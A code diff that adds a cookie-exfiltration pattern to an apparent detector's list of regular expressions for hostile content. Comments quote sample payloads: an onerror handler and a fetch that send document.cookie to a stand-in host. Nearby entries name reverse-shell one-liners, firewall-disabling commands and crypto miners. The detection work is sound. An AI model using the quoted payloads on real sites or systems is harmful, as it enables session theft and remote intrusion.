@@ -57,6 +57,14 @@ const PATTERNS: AnchoredPattern[] = [
   { re: /\bipconfig["',\s]{1,6}\/release\b|\bnetsh\s{1,3}advfirewall\s{1,3}set\s{1,3}\w{1,20}\s{1,3}state\s{1,3}off\b|\bset-mppreference\s{1,3}-disablerealtimemonitoring\s{1,3}\$?(?:true|1)\b/g, needs: [['ipconfig', 'advfirewall', 'disablerealtimemonitoring']] },
   // A crypto miner fetched and started.
   { re: /\b(?:xmrig|cryptomine|coinhive|minerd|cpuminer)\b[^]{0,200}?\b(?:nohup|subprocess|os\.system|popen|\.\/|start-process|exec)/g, needs: [['xmrig', 'cryptomine', 'coinhive', 'minerd', 'cpuminer']] },
+  // Script in a page that sends the reader's cookies or stored tokens away: an inline handler or
+  // script that reads document.cookie / localStorage and hands it to a request ('<img src=x
+  // onerror="this.src+=document.cookie">', "fetch('https://c.example/?c='+document.cookie)").
+  // Reading a cookie to show it ("console.log(document.cookie)") sends nothing.
+  {
+    re: new RegExp(`${NOT_WARNED}(?:\\bon(?:error|load|click|mouseover|focus|begin|start)\\s{0,2}=\\s{0,2}["'][^"'\\n]{0,120}?|<script\\b[^>]{0,80}>[^<]{0,200}?|\\b(?:fetch|navigator\\.sendbeacon|new image\\(\\)\\.src\\s{0,2}=|(?:document|window)\\.location(?:\\.href)?\\s{0,2}=|location\\.href\\s{0,2}=|\\.src\\s{0,2}\\+?=)\\s{0,3}\\(?\\s{0,3}[^;\\n]{0,120}?)\\b(?:document\\.cookie|localstorage\\.getitem|localstorage\\[|sessionstorage\\.getitem|sessionstorage\\[)`, 'g'),
+    needs: [['document.cookie', 'localstorage', 'sessionstorage'], ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onbegin', 'onstart', '<script', 'fetch', 'sendbeacon', 'new image', 'location', '.src']],
+  },
   // A reverse shell: the process's input and output handed to a remote socket, or a shell told to
   // talk to one ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh host 4444").
   {
